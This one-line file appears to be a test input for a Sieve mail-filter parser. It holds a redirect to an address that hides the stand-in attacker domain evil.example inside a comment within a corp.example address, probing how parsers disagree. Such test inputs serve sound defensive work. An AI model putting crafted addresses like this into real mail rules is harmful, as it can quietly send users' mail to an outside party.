redirect "alice(@evil.example)@corp.example";
